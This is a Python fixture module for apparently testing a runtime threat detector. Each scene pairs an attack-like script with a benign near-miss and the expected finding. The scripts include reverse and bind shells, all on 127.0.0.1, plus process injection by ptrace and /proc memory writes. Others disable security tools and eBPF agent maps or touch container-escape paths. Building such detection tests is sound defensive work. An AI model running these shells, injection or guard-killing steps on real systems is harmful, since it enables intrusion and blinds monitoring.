# SPDX-License-Identifier: Apache-2.0
"""What each finding is about, really done, and what only looks like it."""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass, field
from typing import Any, Final

__all__ = ["INFORMATIONAL", "SCENES", "Scene"]

INFORMATIONAL: Final = "informational"
SUSPICIOUS: Final = "Runtime/SuspiciousCommand"


@dataclass(frozen=True)
class Scene:
    """Something that happens, and the finding that it gives."""

    name: str
    type: str
    """Of the finding, and of no other in the process tree."""
    script: str
    """For sh, in an empty folder; `python` and `do` are helpers."""
    near: str
    """What looks similar and must not give that finding."""
    evidence: Mapping[str, Any] = field(default_factory=dict)
    """Values at dotted paths in the finding; {cwd} is the folder."""
    contained: bool = False
    """In a pid and mount namespace of its own."""
    severity: str = ""
    """Informational: alone it stays a signal."""
    made_of: frozenset[str] = frozenset()
    """Other types that it is made of."""


def _python(body: str) -> str:
    return f"exec python3 - <<'EOF'\nimport ctypes, os, socket, subprocess, sys, time\n{body}\nEOF"


LIBC: Final = "libc = ctypes.CDLL(None, use_errno=True)\n"
LISTEN: Final = (
    "l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()\n"
    "c = socket.socket(); c.connect(l.getsockname()); s = l.accept()[0]\n"
)
CONNECTED: Final = (
    "l = socket.socket(); l.bind(('127.0.0.1', 0)); l.listen()\n"
    "c = socket.socket(); c.connect(l.getsockname())\n"
)
MEMORY_FOLDER: Final = "mount -t tmpfs none /mnt; cd /mnt; "
"""Not a folder for temporary files, from which nothing should run."""
SLEEPER: Final = "child = subprocess.Popen(['sleep', '20'])\ntime.sleep(0.2)\n"


RING: Final = (
    LIBC + "import mmap, struct\n"
    "facts = (ctypes.c_uint32 * 30)()\n"
    "ring = libc.syscall(425, 4, facts)\n"
    "queue = mmap.mmap(ring, 4096); requests = mmap.mmap(ring, 4096, offset=0x10000000)\n"
    "name = ctypes.create_string_buffer(b'/etc/hostname')\n"
    "def ask(operation):\n"
    "    request = operation, 0, 0, -100, 0, ctypes.addressof(name), 0, 0\n"
    "    struct.pack_into('<BBHiQQII', requests, 0, *request)\n"
    "    struct.pack_into('<I', queue, facts[16], 0); struct.pack_into('<I', queue, facts[11], 1)\n"
    "    assert libc.syscall(426, ring, 1, 1, 1, None, 0) == 1\n"
)
"""A ring of io_uring and what asks it for one thing."""


FILTER: Final = (
    "import struct\n"
    "code = ctypes.create_string_buffer(struct.pack('<HBBI', 6, 0, 0, 0xFFFFFFFF))\n"
    "program = struct.pack('@HP', 1, ctypes.addressof(code))\n"
    "def attach(family, kind, protocol=0, option=26):\n"
    "    made = socket.socket(family, kind, protocol)\n"
    "    if option == 51:\n"
    "        made.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)\n"
    "    made.setsockopt(socket.SOL_SOCKET, option, program)\n"
)
"""What attaches a classic filter that lets everything through."""
PYTHON: Final = "$(readlink -f /usr/bin/python3)"
LLDPD: Final = (
    f"mount -t tmpfs none /usr/local/sbin; cp {PYTHON} /usr/local/sbin/lldpd\n"
    "exec env PYTHONHOME=/usr /usr/local/sbin/lldpd - <<'EOF'\nimport ctypes, socket\n"
)
SHM: Final = (
    f"cp {PYTHON} /dev/shm/$$; exec env PYTHONHOME=/usr /dev/shm/$$ - <<'EOF'\n"
    "import ctypes, os, socket, sys\nos.unlink(sys.executable)\n"
)


LOADER: Final = (
    LIBC + "import struct\n"
    "code = ctypes.create_string_buffer(bytes.fromhex('b700000000000000 9500000000000000'), 16)\n"
    "text = ctypes.create_string_buffer(b'GPL')\n"
    "load = bytearray(64)\n"
    "struct.pack_into('<IIQQ', load, 0, 1, 2, ctypes.addressof(code), ctypes.addressof(text))\n"
    "load[48:52] = b'tiny'\n"
    "def bpf(command, passed):\n"
    "    return libc.syscall(321, command, (ctypes.c_char * 64)(*passed), 64)\n"
)
"""An eBPF program that returns 0, and what asks the kernel to load it."""


ASKING: Final = (
    "def ask(*labels):\n"
    "    name = b''.join(bytes([len(each)]) + each for each in labels)\n"
    "    message = bytes.fromhex('123401000001000000000000') + name + bytes([0, 0, 1, 0, 1])\n"
    "    socket.socket(type=socket.SOCK_DGRAM).sendto(message, ('127.0.0.1', 53))\n"
)
"""What sends a DNS request for an address to nobody."""
ACCOUNT: Final = "/run/secrets/kubernetes.io/serviceaccount"
KUBELET: Final = "/var/lib/kubelet/pki"


def _secret(above: str, path: str) -> str:
    """A file that is there only for this, and read."""
    return f"mount -t tmpfs none {above}; install -D /etc/hostname {path}; cat {path}"


def _tool(name: str, arguments: str) -> str:
    """A program of that name that does nothing."""
    made = f"printf '#!/bin/sh\\n' > {name}; chmod 755 {name}"
    return f"{MEMORY_FOLDER}{made}; ./{name} {arguments}"


def _placed(name: str, program: str) -> str:
    """A program of that name where a system has its programs, which nobody has written."""
    return f"mount -t tmpfs none /opt; : > /opt/{name}; mount --bind {program} /opt/{name}; "


def _command(
    name: str, purpose: str, program: str, arguments: str, near: str, *, severity: str = "medium"
) -> Scene:
    return Scene(
        name,
        f"{purpose}:{SUSPICIOUS}",
        _tool(program, arguments),
        _tool(program, near),
        {"context.commandLineExample": ...},
        severity=severity,
    )


SHELLS: Final = [
    Scene(
        "reverse-shell",
        "Execution:Runtime/ReverseShell",
        _python(
            LISTEN + "p = subprocess.Popen(['/bin/sh', '-i'], stdin=c, stdout=c, stderr=c)\n"
            "s.send(b'exit\\n'); p.wait(5)"
        ),
        _python(
            "a, b = socket.socketpair()\n"
            "p = subprocess.Popen(['/bin/sh', '-i'], stdin=a, stdout=a, stderr=a)\n"
            "b.send(b'exit\\n'); p.wait(5)"
        ),
        {
            "context.addressFamily": "AF_INET",
            "context.ianaProtocolNumber": 6,
            "action.networkConnectionAction.remoteIpDetails.ipAddressV4": "127.0.0.1",
            "process.name": "dash",
        },
        severity="high",
    ),
    Scene(
        "reverse-shell-by-dup",
        "Execution:Runtime/ReverseShell",
        'python3 -c \'import socket; l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen();'
        ' print(l.getsockname()[1], flush=True); l.accept()[0].send(b"exit\\n")\' > port &'
        " until [ -s port ]; do sleep 0.1; done;"
        " bash -c 'eval \"exec 3<>/dev/t''cp/127.0.0.1/$(cat port)\"; exec 0<&3'",
        "bash -c 'exec 0</dev/null'",
        {"context.addressFamily": "AF_INET"},
        severity="high",
    ),
    Scene(
        "bind-shell",
        "Execution:Runtime/BindShell",
        _python(
            LISTEN + "p = subprocess.Popen(['/bin/sh', '-i'], stdin=s, stdout=s, stderr=s)\n"
            "c.send(b'exit\\n'); p.wait(5)"
        ),
        _python(LISTEN + "subprocess.run(['/bin/true'], stdin=s)"),
        {"action.networkConnectionAction.connectionDirection": "INBOUND"},
        severity="high",
    ),
]

COPIER: Final = (
    "p = subprocess.Popen(['/bin/sh', '-i'], stdin=subprocess.PIPE, stdout=subprocess.PIPE)\n"
    "p.communicate(b'exit\\n')"
)
SERVER: Final = (
    'python3 -c \'import socket; l = socket.socket(); l.bind(("127.0.0.1", 0)); l.listen();'
    ' print(l.getsockname()[1], flush=True); l.accept()[0].send(b"exit\\n")\' > port &'
    " until [ -s port ]; do sleep 0.1; done; "
)
"""Sends a command to whoever connects to the port in the file."""
CLIENT: Final = "cu''rl -sN telnet://127.0.0.1:$(cat port)"
"""Not one word, since the shell that plays this would be told by itself."""
RELAYS: Final = [
    Scene(
        "reverse-shell-by-a-relay",
        "Execution:Runtime/ReverseShell",
        _python(CONNECTED + COPIER),
        # It talks to its own machine only by a file.
        _python("a, b = socket.socketpair()\n" + COPIER),
        {"action.networkConnectionAction.remoteIpDetails.ipAddressV4": "127.0.0.1"},
        severity="medium",
    ),
    Scene(
        "reverse-shell-by-two-pipes",
        "Execution:Runtime/ReverseShell",
        f"{SERVER}mkfifo f; sh < f 2>&1 | {CLIENT} > f",
        # Its commands come from a file.
        f"{SERVER}echo : > x; mkfifo f; cat f & sh < x 2>&1 | {CLIENT} > f",
        {
            "evidence.rule": "piped_shell",
            "context.connectedProcess.name": "curl",
            "action.networkConnectionAction.remoteIpDetails.ipAddressV4": "127.0.0.1",
        },
        severity="high",
    ),
    Scene(
        "reverse-shell-by-a-pipe-with-a-name",
        "Execution:Runtime/ReverseShell",
        f"{SERVER}mkfifo f; cat f | sh 2>&1 | {CLIENT} > f",
        f"{SERVER}echo : | sh 2>&1 | {CLIENT}",
        {"evidence.rule": "relayed_shell", "context.connectedProcess.name": "curl"},
        severity="medium",
    ),
    Scene(
        "commands-by-a-pipe",
        f"Execution:{SUSPICIOUS}",
        f"{SERVER}{CLIENT} | sh",
        # The shell has a script, which reads what comes.
        f"{SERVER}{CLIENT} | sh -c 'cat; true'",
        {"evidence.rule": "piped_commands", "context.connectedProcess.name": "curl"},
        severity="high",
    ),
    Scene(
        "commands-by-several-pipes",
        f"Execution:{SUSPICIOUS}",
        f"{SERVER}{CLIENT} | cat | tr x x | bash -s -- word",
        f"{SERVER}{CLIENT} | cat | tr x x > x; bash -s < x",
        {"evidence.rule": "piped_commands", "context.pipes": ...},
        severity="high",
    ),
    Scene(
        "reverse-shell-by-a-named-pipe",
        "Execution:Runtime/ReverseShell",
        f"{SERVER}mkfifo f; cat f | sh -i 2>&1 | {CLIENT} > f",
        "python3 -m http.server -b 127.0.0.1 0 & sleep 0.5; echo : | sh | cat; kill $!",
        {"action.networkConnectionAction.remoteIpDetails.ipAddressV4": "127.0.0.1"},
        severity="medium",
    ),
]

OWN_GDB: Final = (
    "mount -t tmpfs none {0}; cp /bin/bash {0}/gdb; sleep 20 & pid=$!;"
    ' {0}/gdb -c ": <> /proc/$pid/mem"; kill $pid'
)
"""What may write into programs that it has started; something in its place."""
MEMORY: Final = [
    Scene(
        "fileless",
        "DefenseEvasion:Runtime/FilelessExecution",
        _python(
            "fd = os.memfd_create('x'); os.write(fd, open('/bin/true', 'rb').read())\n"
            "os.execv(f'/proc/self/fd/{fd}', ['x'])"
        ),
        _python("fd = os.open('/bin/true', os.O_RDONLY)\nos.execv(f'/proc/self/fd/{fd}', ['x'])"),
        {"process.executablePath": "/memfd:x"},
        severity="medium",
    ),
    Scene(
        "injection-by-proc",
        "DefenseEvasion:Runtime/ProcessInjection.Proc",
        _python(SLEEPER + "open(f'/proc/{child.pid}/mem', 'r+b').close(); child.kill()"),
        _python("open('/proc/self/mem', 'r+b').close()"),
        {"context.targetProcess.pid": ...},
        severity="high",
    ),
    Scene(
        "injection-by-a-false-debugger",
        "DefenseEvasion:Runtime/ProcessInjection.Proc",
        OWN_GDB.format("/mnt"),
        OWN_GDB.format("/opt"),
        {"process.executablePath": "/mnt/gdb"},
        severity="high",
    ),
    Scene(
        "injection-by-proc-in-a-container",
        "DefenseEvasion:Runtime/ProcessInjection.Proc",
        _python(SLEEPER + "open(f'/proc/{child.pid}/mem', 'r+b').close(); child.kill()"),
        _python("open('/proc/self/mem', 'r+b').close(); open('/proc/thread-self/mem', 'r+b')"),
        {"context.targetProcess.pid": ...},
        contained=True,
        severity="high",
    ),
    Scene(
        "injection-by-ptrace",
        "DefenseEvasion:Runtime/ProcessInjection.Ptrace",
        _python(
            LIBC + SLEEPER + "libc.ptrace(16, child.pid, 0, 0); os.waitpid(child.pid, 0)\n"
            "libc.ptrace(4, child.pid, 0, 0); libc.ptrace(17, child.pid, 0, 0); child.kill()"
        ),
        _python(
            LIBC + SLEEPER + "libc.ptrace(16, child.pid, 0, 0); os.waitpid(child.pid, 0)\n"
            "libc.ptrace(1, child.pid, 0, 0); libc.ptrace(17, child.pid, 0, 0); child.kill()"
        ),
        {
            "context.targetProcess.executablePath": "/usr/bin/sleep",
            "context.flags": ["PTRACE_POKETEXT"],
        },
        severity="medium",
    ),
    Scene(
        "injection-by-vm-write",
        "DefenseEvasion:Runtime/ProcessInjection.VirtualMemoryWrite",
        _python(
            LIBC + SLEEPER + "v = (ctypes.c_size_t * 2)(8, 1)\n"
            "libc.process_vm_writev(child.pid, v, 1, v, 1, 0); child.kill()"
        ),
        _python(
            LIBC + SLEEPER + "v = (ctypes.c_size_t * 2)(8, 1)\n"
            "libc.process_vm_readv(child.pid, v, 1, v, 1, 0); child.kill()"
        ),
        {"context.targetProcess.name": "sleep"},
        severity="high",
    ),
    Scene(
        "userfaultfd",
        "PrivilegeEscalation:Runtime/UserfaultfdUsage",
        _python(LIBC + "libc.syscall(323, 0)"),
        _python(LIBC + "libc.syscall(39, 0)"),
        severity="medium",
    ),
    Scene(
        "guard-killed",
        "DefenseEvasion:Runtime/SecurityToolStopped",
        MEMORY_FOLDER
        + _python(
            "import shutil; os.chdir('/mnt'); shutil.copy('/bin/sleep', 'auditd')\n"
            "child = subprocess.Popen(['./auditd', '20']); time.sleep(0.2)\n"
            "child.kill(); child.wait()"
        ),
        _python(SLEEPER + "child.kill()"),
        {"context.targetProcess.executablePath": "/mnt/auditd", "context.signal": "SIGKILL"},
        severity="high",
    ),
]

GUARD: Final = "mount -t tmpfs none /mnt; cp /bin/sleep /mnt/auditd; /mnt/auditd 20 & sleep 0.2; "
GUARDS: Final = [
    Scene(
        f"guard-killed-by-a-false-{name}",
        "DefenseEvasion:Runtime/SecurityToolStopped",
        f'{GUARD} cp /bin/bash /mnt/{name}; /mnt/{name} -c "kill -{ending} $!"; wait',
        # It lies where only root can put it.
        f"{GUARD} mount -t tmpfs none /usr/local/sbin; cp /bin/bash /usr/local/sbin/{name};"
        f' /usr/local/sbin/{name} -c "kill -{ending} $!"; wait',
        {"context.signal": f"SIG{ending}", "process.name": name},
        severity="high",
    )
    for name, ending in (("runc", "KILL"), ("containerd-shim-runc-v2", "TERM"), ("systemd", "TERM"))
]

GUARD_CHILD: Final = (
    LIBC + "import shutil; os.chdir('/mnt'); shutil.copy('/bin/sleep', '{0}')\n"
    "child = subprocess.Popen(['./{0}', '20']); time.sleep(0.2)\n"
    "v = (ctypes.c_size_t * 2)(8, 1)\n{1}\nchild.kill()"
)
"""A program of that name, and what is done to it."""
MODIFIED: Final = "DefenseEvasion:Runtime/SecurityToolModified"
STOPPED: Final = "DefenseEvasion:Runtime/SecurityToolStopped"
TOUCHED: Final = [
    Scene(
        f"guard-{name}",
        MODIFIED,
        MEMORY_FOLDER + _python(GUARD_CHILD.format("auditd", deed)),
        MEMORY_FOLDER + _python(GUARD_CHILD.format("audited", deed)),
        {
            "evidence.rule": "guard_memory",
            "context.targetProcess.executablePath": "/mnt/auditd",
        },
        severity="high",
        # In the end the scene kills it, too.
        made_of=frozenset({STOPPED}),
    )
    for name, deed in (
        ("traced", "libc.ptrace(16, child.pid, 0, 0); libc.ptrace(17, child.pid, 0, 0)"),
        ("memory-read", "libc.process_vm_readv(child.pid, v, 1, v, 1, 0)"),
        ("memory-written", "libc.process_vm_writev(child.pid, v, 1, v, 1, 0)"),
        ("memory-opened", "open(f'/proc/{child.pid}/mem', 'rb').close()"),
    )
] + [
    Scene(
        "guard-under-a-debugger",
        MODIFIED,
        GUARD + _placed("gdb", "/bin/bash") + '/opt/gdb -c ": <> /proc/$!/mem"',
        OWN_GDB.format("/opt"),
        {"evidence.rule": "guard_memory", "process.executablePath": "/opt/gdb"},
        severity="high",
    ),
]
ENDED: Final = [
    Scene(
        f"guard-ended-by-{ending}",
        STOPPED,
        f"{GUARD} kill -{ending} $!; kill -KILL $!",
        f"{GUARD} kill -CONT $!; kill -USR1 $!",
        {"context.signal": f"SIG{ending}"},
        severity="high",
    )
    for ending in ("STOP", "TSTP", "SEGV")
]
OF_AGENT: Final = (
    LIBC + "import struct\n"
    "def bpf(command, *fields):\n"
    "    passed = bytearray(128)\n"
    "    for place, form, value in fields: struct.pack_into(form, passed, place, value)\n"
    "    known = (ctypes.c_char * 128).from_buffer(passed)\n"
    "    return libc.syscall(321, command, known, 128), bytes(passed)\n"
    "def maps():\n"
    "    number = 0\n"
    "    while True:\n"
    "        result, passed = bpf(12, (0, '<I', number))\n"
    "        if result: return\n"
    "        number = struct.unpack_from('<I', passed, 4)[0]\n"
    "        {0}\n"
    "        held = bpf(14, (0, '<I', number))[0]\n"
    "        info = ctypes.create_string_buffer(80)\n"
    "        at = ctypes.addressof(info)\n"
    "        bpf(15, (0, '<I', held), (4, '<I', 80), (8, '<Q', at))\n"
    "        if info.raw[24:32] == b'own_maps': yield held\n"
    "        os.close(held)\n"
    "missing = ctypes.c_uint32(2**32 - 1)\n"
    "for held in maps(): {1}"
)
"""Maps of all agents: looked for, and what is done with them."""
AGENT: Final = [
    Scene(
        "agent-map-changed",
        MODIFIED,
        _python(
            OF_AGENT.format("pass", "bpf(3, (0, '<I', held), (8, '<Q', ctypes.addressof(missing)))")
        ),
        _python(OF_AGENT.format("pass", "pass")),
        {"evidence.rule": "agent_bpf_changed", "context.bpfCommand": "BPF_MAP_DELETE_ELEM"},
        severity="high",
    ),
    Scene(
        "agent-map-held",
        MODIFIED,
        _python(OF_AGENT.format("pass", "pass")),
        # To ask which there are is no hold.
        _python(OF_AGENT.format("continue", "pass")),
        {"evidence.rule": "agent_bpf_held", "context.bpfCommand": "BPF_MAP_GET_FD_BY_ID"},
        severity=INFORMATIONAL,
    ),
]
OWN_BIN: Final = "mount -t tmpfs none /usr/local/bin; cd /usr/local/bin; "
OWN_STATE: Final = "mount -t tmpfs none /var/lib; mkdir /var/lib/nodeagent; : > /var/lib/x; "
OWN_UNITS: Final = "mount -t tmpfs none /etc; mkdir -p /etc/systemd/system; "
GUARD_FILES: Final = [
    Scene(
        "guard-replaced",
        MODIFIED,
        f"{OWN_BIN}cp /bin/true falco",
        f"{OWN_BIN}cp /bin/true falconer; cat falco",
        {"evidence.rule": "guard_file", "context.filePath": "/usr/local/bin/falco"},
        severity="high",
    ),
    Scene(
        "guard-replaced-by-a-package",
        MODIFIED,
        f"{OWN_BIN}mount -t tmpfs none /mnt; cp /bin/bash /mnt/dpkg;"
        " /mnt/dpkg -c ': > falco; true'",
        f"{OWN_BIN}mount -t tmpfs none /opt; cp /bin/bash /opt/dpkg;"
        " /opt/dpkg -c ': > falco; true'",
        {"evidence.rule": "guard_file", "process.executablePath": "/mnt/dpkg"},
        severity="high",
    ),
    Scene(
        "agent-state-removed",
        MODIFIED,
        f"{OWN_STATE}mv /var/lib/x /var/lib/nodeagent/state; rm /var/lib/nodeagent/state",
        f"{OWN_STATE}cat /var/lib/nodeagent/*; rm /var/lib/x",
        {"evidence.rule": "guard_file", "context.filePath": "/var/lib/nodeagent/state"},
        severity="high",
    ),
    Scene(
        "guard-masked",
        MODIFIED,
        f"{OWN_UNITS}ln -s /dev/null /etc/systemd/system/auditd.service",
        f"{OWN_UNITS}ln -s /dev/null /etc/systemd/system/sound.service",
        {"context.filePath": "/etc/systemd/system/auditd.service"},
        severity="high",
    ),
    Scene(
        "guard-settings-changed",
        MODIFIED,
        f"{OWN_UNITS}mkdir /etc/nodeagent; echo x > /etc/nodeagent/config.toml",
        f"{OWN_UNITS}mkdir /etc/nodeagent; echo x > /etc/nodes; cat /etc/nodeagent/config.toml",
        {"evidence.rule": "guard_settings"},
        severity=INFORMATIONAL,
    ),
]
OWN_SLICE: Final = (
    "mount -t tmpfs none /sys/fs/cgroup; cd /sys/fs/cgroup; mkdir -p system.slice/{0}.service;"
    " cd system.slice/{0}.service; "
)
GUARD_CGROUPS: Final = [
    Scene(
        f"guard-{name}-by-its-cgroup",
        STOPPED,
        f"{OWN_SLICE.format('nodeagent')}echo 1 > {file}",
        f"{OWN_SLICE.format('sound')}echo 1 > {file};"
        f" {OWN_SLICE.format('nodeagent')}echo 1 > cgroup.procs; cat {file}",
        {"evidence.rule": "guard_cgroup", "context.fileOperation": "Write"},
        severity="high",
    )
    for name, file in (
        ("frozen", "cgroup.freeze"),
        ("killed", "cgroup.kill"),
        ("starved", "memory.max"),
        ("slowed", "cpu.max"),
    )
]

CONTAINERS: Final = [
    Scene(
        "docker-socket",
        "PrivilegeEscalation:Runtime/DockerSocketAccessed",
        _python("socket.socket(socket.AF_UNIX).connect_ex('docker.sock')"),
        _python("socket.socket(socket.AF_UNIX).connect_ex('other.sock')"),
        {"context.socketPath": "docker.sock"},
        contained=True,
        severity="medium",
    ),
    Scene(
        "runc-escape",
        "PrivilegeEscalation:Runtime/RuncContainerEscape",
        "touch runc; : >> runc",
        "touch runner; : >> runner; cat runc 2>/dev/null",
        {"context.runcBinaryPath": "{cwd}/runc"},
        contained=True,
        severity="high",
    ),
    Scene(
        "runc-upgraded-by-a-stranger",
        "PrivilegeEscalation:Runtime/RuncContainerEscape",
        # Whoever made the image has chosen what lies where a package manager should.
        "mount -t tmpfs none /opt; cp /bin/bash /opt/dpkg; touch runc; /opt/dpkg -c ': >> runc'",
        # What a package manager does: it writes beside it.
        "touch runc; : > runc.dpkg-new; : >> runc.dpkg-new; mv runc.dpkg-new runc",
        {"process.executablePath": "/opt/dpkg"},
        contained=True,
        severity="high",
    ),
    Scene(
        "runc-working-folder",
        "PrivilegeEscalation:Runtime/RuncContainerEscape",
        "ln -s /proc/self/fd/7 work",
        "ln -s /proc/self/exe work",
        {"context.filePath": "/proc/self/fd/7"},
        contained=True,
        severity="high",
    ),
    Scene(
        "release-agent",
        "PrivilegeEscalation:Runtime/CGroupsReleaseAgentModified",
        "echo /cmd > release_agent",
        "echo /cmd > released_agent; cat release_agent 2>/dev/null",
        {"context.releaseAgentPath": "{cwd}/release_agent"},
        contained=True,
        severity="high",
    ),
    Scene(
        "host-mount",
        "PrivilegeEscalation:Runtime/ContainerMountsHostDirectory",
        _python(LIBC + "libc.mount(b'/dev/nowhere', b'/mnt', b'ext4', 1, None)"),
        _python(LIBC + "libc.mount(b'none', b'/mnt', b'tmpfs', 0, None)"),
        {
            "context.mountSource": "/dev/nowhere",
            "context.mountTarget": "/mnt",
            "context.fileSystemType": "ext4",
            "context.flags": ["MS_RDONLY"],
        },
        contained=True,
        severity="medium",
    ),
    Scene(
        "kernel-helper",
        "PrivilegeEscalation:Runtime/KernelHelperModified",
        ": >> /proc/sys/kernel/core_pattern",
        "cat /proc/sys/kernel/core_pattern",
        {"context.filePath": "/proc/sys/kernel/core_pattern"},
        contained=True,
        severity="high",
    ),
    *(
        Scene(
            f"kernel-helper-{name}",
            "PrivilegeEscalation:Runtime/KernelHelperModified",
            # Whether it is there does not matter.
            f": >> {path}",
            f"cat {path}; : >> {near}",
            {"context.filePath": path},
            contained=contained,
            severity="high",
        )
        for name, path, near, contained in (
            (
                "on-the-host",
                "/proc/sys/kernel/core_pattern",
                "/proc/sys/kernel/core_uses_pid",
                False,
            ),
            ("for-modules", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/domainname", True),
            (
                *("for-formats", "/proc/sys/fs/binfmt_misc/register"),
                *("/proc/sys/fs/binfmt_misc/nothing", True),
            ),
            ("for-devices", "/sys/kernel/uevent_helper", "/sys/kernel/uevent_seqnum", True),
            ("for-devices-on-the-host", "/sys/kernel/uevent_helper", "/dev/null", False),
        )
    ),
    Scene(
        "raw-device",
        "PrivilegeEscalation:Runtime/RawDeviceAccessed",
        "cat /dev/mem | true; exec 3< /dev/vda",
        "cat /dev/null",
        {"context.filePath": ...},
        contained=True,
        severity="high",
    ),
    Scene(
        "raw-device-of-a-card",
        "PrivilegeEscalation:Runtime/RawDeviceAccessed",
        # Whether it is there does not matter.
        "exec 3< /dev/mmcblk0p2",
        "exec 3< /dev/loop-control",
        {"context.filePath": "/dev/mmcblk0p2"},
        contained=True,
        severity="high",
    ),
    Scene(
        "packet-socket",
        "Discovery:Runtime/PacketSocketCreated",
        _python("socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
        _python("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
        {"context.addressFamily": "AF_PACKET"},
        contained=True,
        severity="medium",
    ),
]

FILTERS: Final = [
    Scene(
        "packet-filter",
        "DefenseEvasion:Runtime/SocketFilterAttached",
        _python(FILTER + "attach(socket.AF_PACKET, socket.SOCK_RAW)"),
        # What udev's listeners and servers do; the last one is another option.
        _python(
            FILTER + "attach(socket.AF_NETLINK, socket.SOCK_RAW)\n"
            "attach(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
            "attach(socket.AF_INET, socket.SOCK_DGRAM, option=51)\n"
            "socket.socket().setsockopt(socket.SOL_SOCKET, socket.SO_KEEPALIVE, 1)"
        ),
        {"context.addressFamily": "AF_PACKET", "context.filterOption": "SO_ATTACH_FILTER"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "packet-filter-of-another",
        "DefenseEvasion:Runtime/SocketFilterAttached",
        _python(FILTER + "attach(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)"),
        # It lies where only root can put it.
        LLDPD + FILTER + "attach(socket.AF_PACKET, socket.SOCK_RAW)\nEOF",
        {"context.addressFamily": "AF_INET", "context.socketType": "SOCK_RAW"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "socket-filter",
        "DefenseEvasion:Runtime/SocketFilterAttached",
        _python(FILTER + "attach(socket.AF_INET6, socket.SOCK_DGRAM)"),
        # To a descriptor that is none.
        _python(LIBC + FILTER + "libc.setsockopt(99, 1, 26, program, len(program))"),
        {"context.addressFamily": "AF_INET6", "context.socketType": "SOCK_DGRAM"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "packet-filter-of-a-temporary-file",
        "DefenseEvasion:Runtime/SocketFilterAttached",
        SHM + FILTER + "attach(socket.AF_PACKET, socket.SOCK_RAW)\nEOF",
        SHM + "socket.socket(socket.AF_PACKET, socket.SOCK_RAW)\nEOF",
        severity="medium",
        made_of=frozenset({"Execution:Runtime/TemporaryFileExecuted"}),
    ),
    Scene(
        "packet-filter-in-a-container",
        "DefenseEvasion:Runtime/SocketFilterAttached",
        _python(FILTER + "attach(socket.AF_PACKET, socket.SOCK_RAW)"),
        _python("socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"),
        {"context.addressFamily": "AF_PACKET"},
        contained=True,
        severity="medium",
        made_of=frozenset({"Discovery:Runtime/PacketSocketCreated"}),
    ),
]

FIXED: Final = [
    Scene(
        f"fixed-addresses{where}",
        "DefenseEvasion:Runtime/AddressRandomizationOff",
        "setarch -R true",
        # What a debugger runs; another personality.
        "gdb -q -batch -ex run true; setarch --uname-2.6 true",
        {"context.flags": ["ADDR_NO_RANDOMIZE"]},
        contained=contained,
        severity=INFORMATIONAL,
    )
    for where, contained in (("", False), ("-in-a-container", True))
]

DRIFT: Final = [
    Scene(
        "downloaded",
        f"Execution:{SUSPICIOUS}",
        MEMORY_FOLDER + "curl -s -o got file:///bin/true; chmod 755 got; ./got",
        "cp /bin/true got; ./got",
        {"context.modifyingProcess.executablePath": "/usr/bin/curl", "process.name": "got"},
        severity="high",
    ),
    Scene(
        "downloaded-script",
        f"Execution:{SUSPICIOUS}",
        f"printf '#!/bin/sh\\n' > source; {MEMORY_FOLDER}"
        "curl -s -o got file://$OLDPWD/source; chmod 755 got; mkdir below; cd below; ../got",
        f"printf '#!/bin/sh\\n' > source; {MEMORY_FOLDER}"
        "curl -s -o got file://$OLDPWD/source; cat got > other; chmod 755 other; ./other",
        {
            "context.modifyingProcess.executablePath": "/usr/bin/curl",
            "context.threatFilePath": "/mnt/got",
        },
        severity="high",
    ),
    Scene(
        "downloaded-script-for-a-shell",
        f"Execution:{SUSPICIOUS}",
        f"echo : > source; {MEMORY_FOLDER}curl -s -o got file://$OLDPWD/source; sh -e got",
        f"echo : > source; {MEMORY_FOLDER}curl -s -o got file://$OLDPWD/source; sh -c : got",
        {
            "context.modifyingProcess.executablePath": "/usr/bin/curl",
            "context.threatFilePath": "/mnt/got",
        },
        severity="high",
    ),
    Scene(
        "elevation",
        "PrivilegeEscalation:Runtime/ElevationToRoot",
        MEMORY_FOLDER
        + "install -m 4755 /usr/bin/true odd; setpriv --reuid 65534 --clear-groups ./odd",
        "setpriv --reuid 65534 --clear-groups su --help",
        {"context.threatFilePath": "/mnt/odd", "process.euid": 0},
        severity="medium",
    ),
    Scene(
        "no-argument",
        "PrivilegeEscalation:Runtime/ExploitedSetuidProgram",
        _python(
            LIBC + "none = (ctypes.c_char_p * 1)(None)\nlibc.execve(b'/usr/bin/su', none, none)"
        ),
        "su --help",
        {"process.name": "su"},
        severity="high",
    ),
]

LIBRARIES: Final = "mount -t tmpfs none /usr/local/lib; cd /usr/local/lib; "
LOAD: Final = "python3 -c \"import ctypes; ctypes.CDLL('$PWD/libodd.so')\""
OF_SU: Final = "pam=$(readlink -f /lib/*-linux-gnu/libpam.so.0); "
AS_USER: Final = "setpriv --reuid 65534 --clear-groups su --help"
"""A program that root has made setuid."""
REAL_DPKG: Final = _placed("dpkg", "/bin/bash")
PLANTED: Final = [
    Scene(
        "program-without-a-package",
        "Execution:Runtime/NewBinaryExecuted",
        f"{OWN_BIN}cp /bin/true odd; ./odd",
        # By a package manager, by a linker, and at home.
        f"{OWN_BIN}{REAL_DPKG}"
        " /opt/dpkg -c 'while read -r x; do echo \"$x\"; done < odd > even; true';"
        " echo 'int main(void) { return 0; }' > /opt/x.c; gcc -o /opt/x /opt/x.c; /opt/x;"
        " mount -t tmpfs none /root; cp /bin/true /root/odd; /root/odd",
        {
            "evidence.rule": "host_binary",
            "context.threatFilePath": "/usr/local/bin/odd",
            "context.modifyingProcess.executablePath": "/usr/bin/cp",
        },
        severity=INFORMATIONAL,
    ),
    Scene(
        "script-without-a-package",
        "Execution:Runtime/NewBinaryExecuted",
        f"{OWN_BIN}printf '#!/bin/sh\\n' > odd; chmod 755 odd; ./odd",
        f"{OWN_BIN}{REAL_DPKG}"
        " /opt/dpkg -c 'printf \"#!/bin/sh\\n\" > odd; true'; chmod 755 odd; ./odd",
        {"evidence.rule": "host_binary", "context.threatFilePath": "/usr/local/bin/odd"},
        severity=INFORMATIONAL,
    ),
    Scene(
        "library-without-a-package",
